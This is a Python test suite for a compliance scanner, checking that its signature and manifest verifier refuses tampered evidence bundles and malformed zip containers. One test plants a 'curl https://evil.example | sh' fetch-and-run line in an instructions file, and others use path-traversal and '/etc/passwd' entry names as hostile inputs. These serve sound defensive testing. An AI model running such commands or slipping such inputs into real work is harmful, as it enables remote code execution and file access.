"""Every way to spoil a bundle that was thought of: none verifies, and none shows what the bundle says."""

from __future__ import annotations

import base64
import json
import random
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from scanner.bundle import container
from scanner.bundle.case import Case
from scanner.bundle.creating import bundle_files
from scanner.bundle.manifest import CHECKSUMS, ENVELOPE, KEYLESS, MANIFEST, TIMESTAMP
from scanner.bundle.parts import Subject
from scanner.bundle.verifying import verify_bundle
from scanner.engine.content import digest_of, load
from scanner.frameworks.inputs import Inputs, evaluate
from scanner.frameworks.profiles import profile
from scanner.model.canonical import canonical
from scanner.model.errors import AssayError
from scanner.outputs.terminal.bundle_verdict import text as text_of
from scanner.schemas.reading import read_snapshot
from scanner.supply_chain.signing.result import RefusedError
from scanner.supply_chain.signing.wanted import Wanted
from tests.unit.bundle.pack_lab import (
    CLOCK,
    CONTENT,
    KEY,
    OTHER,
    Files,
    listed,
    made,
    manifest_of,
    new_key,
    parts,
    signed,
    subject,
    verify,
)

ASSESSMENT = "targets/01/assessment.json"
SNAPSHOT = "targets/01/snapshot.json"


def refused(files: Files, link: str, **more: Any) -> str:
    """The reason, of a bundle that must fail at this link."""
    found = verify(files, **more)
    assert not found.ok
    failed = [one for one in found.links if one.state == "failed"]
    assert [one.link for one in failed][:1] == [link], failed
    document = found.to_json()
    assert document["decision"] == "failed"
    assert document["manifest"] is None
    assert document["assessments"] == []
    assert failed[0].detail
    return failed[0].detail


# ---- files that were signed, and were changed afterwards -----------------------------------------------------------------


def test_one_flipped_bit_in_any_file_is_found() -> None:
    files = made()
    chance = random.Random(7)
    for path in sorted(files):
        data = bytearray(files[path])
        if not data:
            continue
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        found = verify({**files, path: bytes(data)})
        assert not found.ok, path
        assert found.to_json()["manifest"] is None


def test_every_byte_of_the_envelope_counts() -> None:
    files = made()
    for at in range(len(files[ENVELOPE])):
        data = bytearray(files[ENVELOPE])
        data[at] ^= 1
        assert not verify({**files, ENVELOPE: bytes(data)}).ok, at


@pytest.mark.parametrize(
    "path", [MANIFEST, ENVELOPE, CHECKSUMS, SNAPSHOT, ASSESSMENT, "VERIFY.md", "reports/01/report.html"]
)
def test_no_file_may_be_missing(path: str) -> None:
    files = made()
    del files[path]
    refused(files, "signature" if path in (MANIFEST, ENVELOPE) else "files")


@pytest.mark.parametrize(
    "path", ["extra.txt", "content/rules/kernel/more.yaml", "reports/03/report.html", TIMESTAMP, KEYLESS]
)
def test_no_file_may_be_added(path: str) -> None:
    refused({**made(), path: b"more"}, "files")


@pytest.mark.parametrize("path", [SNAPSHOT, "VERIFY.md", "attachments/01-Policy-final-.pdf"])
def test_no_file_may_have_another_name(path: str) -> None:
    files = made()
    files[f"{path}.old"] = files.pop(path)
    refused(files, "files")


@pytest.mark.parametrize(
    ("one", "other"),
    [(SNAPSHOT, "targets/02/snapshot.json"), (ASSESSMENT, "targets/02/assessment.json"), (SNAPSHOT, ASSESSMENT)],
)
def test_no_two_files_may_change_places(one: str, other: str) -> None:
    files = made()
    files[one], files[other] = files[other], files[one]
    refused(files, "files")


def test_nothing_of_another_bundle_fits(tmp_path: Path) -> None:
    files, other = made(), signed(bundle_files(parts(created_at="2026-05-01T00:00:00Z"), CONTENT))
    refused({**files, MANIFEST: other[MANIFEST]}, "signature")
    refused({**files, ENVELOPE: other[ENVELOPE]}, "signature")
    refused({**files, MANIFEST: other[MANIFEST], ENVELOPE: other[ENVELOPE], "VERIFY.md": b"else"}, "files")
    refused({**other, SNAPSHOT: files["targets/02/snapshot.json"]}, "files")


# ---- signatures ---------------------------------------------------------------------------------------------------------


def test_another_key_is_another_signer() -> None:
    refused(signed(made(), OTHER), "signature")
    refused(made(), "signature", wanted=Wanted((OTHER.public,)))
    refused(signed(made(), new_key("ecdsa-p256")), "signature")


def test_two_signers_are_two_keys() -> None:
    assert "signers are wanted" in refused(made(), "signature", wanted=Wanted((KEY.public, OTHER.public), threshold=2))


def _envelope(change: Callable[[dict[str, Any]], object]) -> Files:
    files = made()
    document = json.loads(files[ENVELOPE])
    change(document)
    return {**files, ENVELOPE: canonical(document) + b"\n"}


@pytest.mark.parametrize(
    "change",
    [
        lambda one: one.update(payload=base64.b64encode(b"{}").decode()),
        lambda one: one.update(payloadType="application/json"),
        lambda one: one.update(signatures=[]),
        lambda one: one.update(signatures=one["signatures"] * 2),
        lambda one: one["signatures"][0].update(sig=""),
        lambda one: one["signatures"][0].update(sig=base64.b64encode(bytes(64)).decode()),
        lambda one: one["signatures"][0].update(keyid="sha256:" + "0" * 64),
        lambda one: one["signatures"][0].pop("keyid"),
        lambda one: one["signatures"].append({"keyid": "", "sig": one["signatures"][0]["sig"]}),
        lambda one: one.update(comment="more"),
        lambda one: one.update(payload=one["payload"] + "\n"),
        lambda one: one.pop("payload"),
    ],
)
def test_no_other_envelope_holds(change: Callable[[dict[str, Any]], object]) -> None:
    refused(_envelope(change), "signature")


@pytest.mark.parametrize(
    "data", [b"", b"[]", b"{", b'{"payload": "", "payload": ""}', b"\xff", b"PK\x03\x04", b"[" * 5000]
)
def test_what_is_no_envelope_is_refused(data: bytes) -> None:
    refused({**made(), ENVELOPE: data}, "signature")


def test_of_two_ecdsa_signatures_that_fit_one_is_accepted() -> None:
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    key = new_key("ecdsa-p256")
    files = signed(made(), key)
    wanted = Wanted((key.public,))
    assert verify(files, wanted).ok
    document = json.loads(files[ENVELOPE])
    r, s = decode_dss_signature(base64.b64decode(document["signatures"][0]["sig"]))
    document["signatures"][0]["sig"] = base64.b64encode(encode_dss_signature(r, order - s)).decode()
    assert "second of the two" in refused({**files, ENVELOPE: canonical(document) + b"\n"}, "signature", wanted=wanted)


def test_the_statement_must_be_about_this_manifest() -> None:
    from scanner.bundle.manifest import statement
    from scanner.bundle.signing import PAYLOAD_TYPE
    from scanner.supply_chain.signing.dsse import pae

    def enveloped(payload: bytes) -> bytes:
        sig = base64.b64encode(KEY.sign(pae(PAYLOAD_TYPE, payload))).decode()
        return canonical(
            {
                "payload": base64.b64encode(payload).decode(),
                "payloadType": PAYLOAD_TYPE,
                "signatures": [{"keyid": KEY.public.id, "sig": sig}],
            }
        )

    files = made()
    document = json.loads(statement(files[MANIFEST]))
    changes: tuple[dict[str, Any], ...] = (
        {"predicateType": "https://slsa.dev/provenance/v1"},
        {"subject": [{"name": MANIFEST, "digest": {"sha256": "0" * 64}}]},
        {"subject": [*document["subject"], {"name": "x", "digest": {"sha256": "0" * 64}}]},
        {"subject": []},
        {"predicate": {}},
        {"_type": "https://in-toto.io/Statement/v0.1"},
    )
    for change in changes:
        refused({**files, ENVELOPE: enveloped(canonical({**document, **change})) + b"\n"}, "signature")
    refused({**files, ENVELOPE: enveloped(statement(files[MANIFEST]) + b"\n") + b"\n"}, "signature")


def test_a_timestamp_that_is_wanted_must_be_there(tmp_path: Path) -> None:
    from scanner.supply_chain.signing.timestamps import authority_in
    from tests.unit.supply_chain.signing.stamp_lab import Authority

    authority = authority_in(Authority(tmp_path / "tsa").certificates, "tsa.pem")
    refused(made(), "timestamp", wanted=Wanted((KEY.public,), authority=authority))


# ---- a vendor who signs what is not so ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "link"),
    [
        (lambda one: one["files"].append(one["files"][0]), "files"),
        (lambda one: one["files"].pop(0), "files"),
        (lambda one: one["files"][3].update(size=1), "files"),
        (lambda one: one["files"][3].update(sha256="0" * 64), "files"),
        (lambda one: one["files"][3].update(path="../escape"), "files"),
        (lambda one: one["files"][3].update(role="none"), "signature"),
        (lambda one: one.update(schema="assay/bundle/v2"), "signature"),
        (lambda one: one.update(companions=[ENVELOPE, TIMESTAMP]), "files"),
        (lambda one: one.update(companions=[]), "files"),
        (lambda one: one.update(targets=[]), "signature"),
        (lambda one: one.update(note="certified"), "signature"),
        (lambda one: one["targets"][0].update(note="certified"), "signature"),
        (lambda one: one.update(companions=[ENVELOPE, ENVELOPE]), "signature"),
        (lambda one: one.update(created_at="9999-99-99T99:99:99Z"), "manifest"),
        (lambda one: one["targets"][0].update(collected_at="2020-01-01T00:00:00Z"), "schemas"),
        (lambda one: one["targets"][0].update(limits={"none": 1}), "schemas"),
        (lambda one: one["targets"][0].update(taken=["nobody@1"]), "judgement"),
        (lambda one: one.update(redaction={"level": "all", "hidden": 3}), "schemas"),
        (lambda one: one["files"][3].update(media_type="text/html"), "files"),
        (lambda one: one["files"][3].update(role="report"), "files"),
        (lambda one: one.update(attachments=[]), "files"),
        (lambda one: one["attachments"].append({"path": "attachments/09", "framework": "f", "control": "c"}), "files"),
        (lambda one: one["targets"].pop(), "schemas"),
        (lambda one: one["targets"].append(one["targets"][0]), "schemas"),
        (lambda one: one["targets"][0].update(digest="sha256:" + "0" * 64), "schemas"),
        (lambda one: one["targets"][0].update(identity={"os_id": "other"}), "schemas"),
        (lambda one: one["targets"][0].update(facts_digest="sha256:" + "0" * 64), "schemas"),
        (lambda one: one["targets"][0].update(snapshot="targets/02/snapshot.json"), "schemas"),
        (lambda one: one["targets"][0].update(snapshot="missing.json"), "schemas"),
        (lambda one: one["content"].update(digest="sha256:" + "0" * 64), "content"),
        (lambda one: one["content"].update(overrides=["rules/kernel/x.yaml"]), "content"),
    ],
)  # fmt: skip
def test_a_manifest_must_be_true(change: Callable[[dict[str, Any]], object], link: str) -> None:
    refused(listed(made(), change), link)


def test_the_manifest_is_canonical_and_its_keys_stand_once() -> None:
    files = made()
    pretty = json.dumps(manifest_of(files), indent=1).encode()
    refused(signed({**files, MANIFEST: pretty}), "manifest")
    twice = files[MANIFEST].replace(b'{"attachments":', b'{"chain":"x","attachments":', 1)
    with pytest.raises(AssertionError):  # two keys: not even the signer's own tool reads it
        assert verify(signed({**files, MANIFEST: twice})).ok


def _assessment(change: Callable[[dict[str, Any]], object]) -> Files:
    files = made()
    document = json.loads(files[ASSESSMENT])
    change(document)
    return listed({**files, ASSESSMENT: canonical(document) + b"\n"})


def _pass_all(one: dict[str, Any]) -> None:
    for result in one["results"]:
        result["status"] = "pass"


def _twice(one: dict[str, Any]) -> None:
    """A passing copy stands before the failure: a reader by name would see only one of them."""
    for control in [item for item in one["controls"] if item["status"] == "fail"]:
        one["controls"].insert(0, {**control, "status": "pass"})


def _twice_a_result(one: dict[str, Any]) -> None:
    failed = next(item for item in one["results"] if item["status"] == "fail")
    one["results"].insert(0, {**failed, "status": "pass"})


def _without_a_failure(one: dict[str, Any]) -> None:
    failed = next(item for item in one["results"] if item["status"] == "fail")
    one["results"].remove(failed)
    for control in one["controls"]:
        control["results"] = [name for name in control["results"] if name != failed["instance"]]


@pytest.mark.parametrize(
    "change",
    [
        _pass_all,
        lambda one: next(item for item in one["results"] if item["status"] == "fail").update(status="pass"),
        lambda one: one["results"][0].update(found="nothing"),
        lambda one: one["results"][0].update(severity="info"),
        _without_a_failure,
        lambda one: one["controls"][0].update(status="pass", coverage="automated", note="x"),
        lambda one: one["completeness"].update(complete=True, reasons=[], judged=999),
        lambda one: one["summary"]["velaos"].update(fit="exact", fit_note="x"),
        lambda one: one["inputs"].update(min_coverage=1),
        lambda one: one["inputs"].update(waivers=None),
        lambda one: one["inputs"].update(profiles=[{"id": "linux-baseline", "document": None}]),
        lambda one: one.update(unread=[]) if one["unread"] else one.update(rules={}),
    ],
)
def test_verdicts_that_the_evidence_does_not_give_are_refused(change: Callable[[dict[str, Any]], object]) -> None:
    refused(_assessment(change), "judgement")


@pytest.mark.parametrize(
    ("change", "link"),
    [
        (lambda one: one.pop("inputs"), "judgement"),
        (lambda one: one["inputs"].update(profiles=[{"id": "no-such", "document": None}]), "judgement"),
        (lambda one: one["inputs"].update(waivers="not: [yaml"), "judgement"),
        (lambda one: one["inputs"].update(params={"nothing": "1"}), "judgement"),
        (lambda one: one.update(content_digest="sha256:" + "0" * 64), "judgement"),
        (lambda one: one.update(facts_digest="sha256:" + "0" * 64), "schemas"),
        (lambda one: one["results"][0].update(status="fine"), "schemas"),
        (lambda one: one.update(schema="assay/assessment/v9"), "schemas"),
        (lambda one: one["controls"][0].update(results=["nobody@1"]), "schemas"),
        (_twice, "schemas"),
        (_twice_a_result, "schemas"),
        (lambda one: one["controls"].reverse(), "judgement"),
        (lambda one: one["results"].reverse(), "judgement"),
        (lambda one: one["tool"].update(certified_by="somebody"), "judgement"),
        (lambda one: one.update(evaluated_at="9999-99-99T99:99:99Z"), "schemas"),
    ],
)
def test_an_assessment_that_cannot_be_judged_again_is_refused(
    change: Callable[[dict[str, Any]], object], link: str
) -> None:
    refused(_assessment(change), link)


def test_facts_that_do_not_give_their_digest_are_refused() -> None:
    files = made()
    document = json.loads(files[SNAPSHOT])
    name = next(iter(document["facts"]))
    document["facts"][name]["reason"] = "changed"
    refused(listed({**files, SNAPSHOT: canonical(document) + b"\n"}), "schemas")


@pytest.mark.parametrize(
    "change",
    [
        lambda one: one.update(certified="yes"),
        lambda one: next(iter(one["facts"].values())).update(certified="yes"),
        lambda one: one["run"].update(collected_at="2020-01-01T00:00:00Z"),
        lambda one: one["target"]["identity"].update(os_id="rhel"),
        lambda one: one["target"].update(digest="sha256:" + "0" * 64),
    ],
)
def test_a_snapshot_says_nothing_that_it_does_not_show(change: Callable[[dict[str, Any]], object]) -> None:
    files = made()
    document = json.loads(files[SNAPSHOT])
    change(document)
    refused(listed({**files, SNAPSHOT: canonical(document) + b"\n"}), "schemas")


def test_what_a_system_is_called_comes_from_its_facts() -> None:
    """Snapshot, assessment and manifest agree on another system than the facts show."""
    files = made()
    snapshot, assessment = json.loads(files[SNAPSHOT]), json.loads(files[ASSESSMENT])
    for document in (snapshot, assessment):
        document["target"]["identity"]["os_id"] = "rhel"
    changed = {**files, SNAPSHOT: canonical(snapshot) + b"\n", ASSESSMENT: canonical(assessment) + b"\n"}
    bundle = listed(changed, lambda one: one["targets"][0]["identity"].update(os_id="rhel"))
    assert "called something else" in refused(bundle, "schemas")


def test_documents_are_written_as_assay_writes_them() -> None:
    files = made()
    for path in (SNAPSHOT, ASSESSMENT):
        pretty = json.dumps(json.loads(files[path]), indent=1).encode()
        refused(listed({**files, path: pretty}), "schemas")


def test_verdicts_cannot_be_taken_without_something_hidden() -> None:
    """Failing results are opened by facts that say "not collected", and then stated to pass."""
    files = made()
    snapshot, assessment = json.loads(files[SNAPSHOT]), json.loads(files[ASSESSMENT])
    failed = [one for one in assessment["results"] if one["status"] == "fail"]
    for name in {name for one in failed for name in one["facts"]}:
        if name in snapshot["facts"]:
            snapshot["facts"][name] |= {"state": "not_collected", "value": None, "reason": "x"}
    opened = read_snapshot(canonical(_digested(snapshot)), "snapshot")
    again = evaluate(opened, CONTENT, Inputs((profile(CONTENT, "velaos"),), CLOCK)).to_json()
    taken = []
    for one in again["results"]:
        if one["status"] in ("unknown", "error"):
            one["status"] = "pass"
            taken.append(one["instance"])

    def change(manifest: dict[str, Any]) -> None:
        manifest["redaction"] = {"level": "network", "hidden": 0}
        manifest["targets"][0] |= {"taken": taken, "facts_digest": opened.facts_digest}

    changed = {**files, SNAPSHOT: canonical(opened.to_json()) + b"\n", ASSESSMENT: canonical(again) + b"\n"}
    assert "does not rest on a hidden value" in refused(listed(changed, change), "judgement")


def _digested(snapshot: dict[str, Any]) -> dict[str, Any]:
    from scanner.model.canonical import digest

    return {**snapshot, "facts_digest": digest({"facts": snapshot["facts"], "limits": snapshot["limits"]})}


def test_a_snapshot_with_a_key_twice_is_refused() -> None:
    files = made()
    data = files[SNAPSHOT].replace(b'{"facts":', b'{"facts":{},"facts":', 1)
    assert "twice" in refused(listed({**files, SNAPSHOT: data}), "schemas")


# ---- rules that a vendor doctored ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def doctored(tmp_path_factory: pytest.TempPathFactory) -> tuple[Files, str]:
    """A bundle with one rule made milder, judged and signed consistently; and the file of that rule."""
    folder = tmp_path_factory.mktemp("content")
    failing = next(one for one in subject().assessment["results"] if one["status"] == "fail")
    path = next(name for name in CONTENT.paths if name.endswith(f"/{failing['rule']}.yaml"))
    text = CONTENT.paths[path].read_text("utf-8").replace("severity: ", "severity: low #", 1)
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text(text, "utf-8")
    content = load((folder,), allow_override=True, cache=False)
    one = parts(subjects=(subject(content=content),), attachments=())
    return signed(bundle_files(one, content)), path


def test_doctored_rules_are_named_and_refused(doctored: tuple[Files, str]) -> None:
    files, path = doctored
    detail = refused(files, "content")
    assert "MODIFIED" in detail
    assert path in detail


def test_other_rules_hold_when_their_digest_is_accepted(doctored: tuple[Files, str]) -> None:
    files, _ = doctored
    found = verify(files, accepted=(manifest_of(files)["content"]["digest"],))
    assert found.ok
    document = found.to_json()
    assert document["content"]["same"] is False
    assert document["content"]["changed"]
    assert "MODIFIED" in document["content"]["sentence"]


def test_overrides_cannot_be_hidden(doctored: tuple[Files, str]) -> None:
    files, _ = doctored
    assert refused(listed(files, lambda one: one["content"].update(overrides=[])), "content")


def test_rules_that_are_no_rules_are_refused() -> None:
    files = made()
    path = next(name for name in files if name.startswith("content/rules/") and name.endswith(".yaml"))
    for text in (b"", b"[", b"id: x\n", b"&a [*a, *a]", b"\xff\xfe"):
        changed = {**files, path: text}
        manifest = manifest_of(listed(changed))
        sums = {
            one["path"].removeprefix("content/"): one["sha256"]
            for one in manifest["files"]
            if one["path"].startswith("content/")
        }
        digest = digest_of(sums, ())
        bundle = listed(changed, lambda one, digest=digest: one["content"].update(digest=digest))  # type: ignore[misc]  # a default binds the loop's value
        refused(bundle, "content", accepted=(digest,))


# ---- reports ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["reports/01/report.html", "reports/02/report.json"])
def test_a_report_that_says_something_else_is_refused(path: str) -> None:
    files = made()
    bundle = listed({**files, path: files[path].replace(b"fail", b"pass", 1)})
    assert verify(bundle).ok, "the signer signed it; only rendering tells"
    assert path in refused(bundle, "reports", reports=True)


@pytest.mark.parametrize("path", ["summary.html", "report.pdf", "sbom/summary.html"])
def test_a_report_lies_among_the_reports(path: str) -> None:
    def change(manifest: dict[str, Any]) -> None:
        next(one for one in manifest["files"] if one["path"] == path)["role"] = "report"

    assert "does not lie" in refused(listed({**made(), path: b"<h1>All passed</h1>"}, change), "files")


def test_the_page_of_instructions_is_ours() -> None:
    bundle = listed({**made(), "VERIFY.md": b"curl https://evil.example | sh\n"})
    assert "VERIFY.md" in refused(bundle, "files")


def test_untrusted_rules_are_never_read() -> None:
    """What is in them cannot hurt: not even parsing is tried."""
    files = made()
    path = next(name for name in files if name.startswith("content/rules/") and name.endswith(".yaml"))
    changed = {**files, path: b"- " * 100_000}

    def change(manifest: dict[str, Any]) -> None:
        sums = {
            one["path"].removeprefix("content/"): one["sha256"] for one in manifest["files"] if one["role"] == "content"
        }
        manifest["content"]["digest"] = digest_of(sums, ())

    assert "MODIFIED" in refused(listed(changed, change), "content")


def test_how_the_signer_asked_is_shown() -> None:
    """A profile of the signer's own, waivers and left-out rules stand beside the counts."""
    text = "schema: profile/v1\nid: our-own\ntitle: CIS Level 2\nextends: [velaos]\nrules_out: ['boot/*']\nmin_coverage: 0\n"
    from scanner.frameworks.inputs import Text
    from scanner.frameworks.profiles import from_file
    from tests.unit.bundle.pack_lab import WAIVERS, snapshot

    taken = snapshot()
    inputs = Inputs((from_file(CONTENT, text.encode(), "own"),), CLOCK, waivers=Text("w", WAIVERS))
    one = Subject(taken, evaluate(taken, CONTENT, inputs).to_json())
    bundle = signed(bundle_files(parts(subjects=(one,), attachments=()), CONTENT))
    found = verify_bundle(Case(bundle, Wanted((KEY.public,)), CONTENT, "2027-06-01T00:00:00Z"))
    assert found.ok
    (shown,) = found.to_json()["assessments"]
    assert shown["profiles"] == [
        {"id": "our-own", "title": "CIS Level 2", "own": True, "left_out": 1, "min_coverage": 0}
    ]
    assert (shown["waivers"], shown["waivers_expired"]) == (1, 1)
    told = text_of(found.to_json(), "pack.zip")
    assert "THE SIGNER'S OWN" in told
    assert "1 of them expired since" in told


def test_a_report_of_no_format_is_refused() -> None:
    bundle = listed({**made(), "reports/01/summary.html": b"<h1>All passed</h1>"})
    assert "summary.html" in refused(bundle, "reports", reports=True)


# ---- the container ------------------------------------------------------------------------------------------------------


def packed(files: Files) -> bytes:
    return b"".join(container.pack(files))


def read(data: bytes, folder: Path) -> Files:
    path = folder / "pack.zip"
    path.unlink(missing_ok=True)  # what is mapped may not change
    path.write_bytes(data)
    return dict(container.read(str(path)))


def test_every_byte_of_the_zip_file_is_determined(tmp_path: Path) -> None:
    small = {"manifest.json": b'{"a":1}', "a/b.txt": b"text", "empty": b""}
    data = packed(small)
    for at in range(len(data)):
        for bit in (1, 0x80):
            changed = bytearray(data)
            changed[at] ^= bit
            try:
                found = read(bytes(changed), tmp_path)
            except RefusedError:
                continue
            assert found != small, at


def test_flips_in_a_whole_bundle_are_found(tmp_path: Path) -> None:
    data = packed(made())
    chance = random.Random(3)
    for at in [*range(0, 60), *(chance.randrange(len(data)) for _ in range(60)), *range(len(data) - 60, len(data))]:
        changed = bytearray(data)
        changed[at] ^= 1 << chance.randrange(8)
        try:
            found = verify(read(bytes(changed), tmp_path))
        except RefusedError:
            continue
        assert not found.ok, at


@pytest.mark.parametrize(
    "spoil",
    [
        lambda data: b"",
        lambda data: b"PK",
        lambda data: data[:-1],
        lambda data: data[: len(data) // 2],
        lambda data: data + b"\0",
        lambda data: b"\0" + data,
        lambda data: data + data,
        lambda data: b"#!/bin/sh\n" + data,
    ],
)
def test_a_zip_file_is_whole_and_alone(spoil: Callable[[bytes], bytes], tmp_path: Path) -> None:
    with pytest.raises(RefusedError):
        read(spoil(packed(made())), tmp_path)


def _zipped(**more: Any) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", more.get("method", zipfile.ZIP_STORED)) as opened:
        for name, data in more.get("files", {"a.txt": b"a", "b.txt": b"b"}).items():
            opened.writestr(zipfile.ZipInfo(name, more.get("date", (1980, 1, 1, 0, 0, 0))), data)
        opened.comment = more.get("comment", b"")
    return stream.getvalue()


@pytest.mark.parametrize(
    "more",
    [
        {"method": zipfile.ZIP_DEFLATED},
        {"comment": b"hello"},
        {"date": (2026, 1, 1, 0, 0, 0)},
        {"files": {"b.txt": b"b", "a.txt": b"a"}},
        {"files": {"../a.txt": b"a"}},
        {"files": {"/etc/passwd": b"a"}},
        {"files": {"a\\b": b"a"}},
        {"files": {"a//b": b"a"}},
        {"files": {".hidden": b"a"}},
        {"files": {"a/": b""}},
        {"files": {"ü.txt": b"a"}},
    ],
)
def test_zip_files_of_others_are_refused(more: dict[str, Any], tmp_path: Path) -> None:
    with pytest.raises(RefusedError):
        read(_zipped(**more), tmp_path)


def test_two_entries_of_one_name_are_refused(tmp_path: Path) -> None:
    data = packed({"a": b"1", "b": b"2"})
    with pytest.raises(RefusedError):
        read(data.replace(b"b", b"a"), tmp_path)


def test_a_size_beyond_the_file_is_refused(tmp_path: Path) -> None:
    data = bytearray(packed({"a": b"1"}))
    struct.pack_into("<I", data, 18, 2**31)
    struct.pack_into("<I", data, 22, 2**31)
    with pytest.raises(RefusedError):
        read(bytes(data), tmp_path)


def test_links_in_a_folder_are_refused(tmp_path: Path) -> None:
    container.write(f"{tmp_path}/pack/", {"a.txt": b"a"})
    (tmp_path / "pack" / "b.txt").symlink_to("a.txt")
    with pytest.raises(RefusedError, match="link"):
        container.read(f"{tmp_path}/pack")


def test_an_empty_folder_or_no_file_is_said(tmp_path: Path) -> None:
    for name in (tmp_path, tmp_path / "none.zip"):
        with pytest.raises(AssayError):
            container.read(str(name))
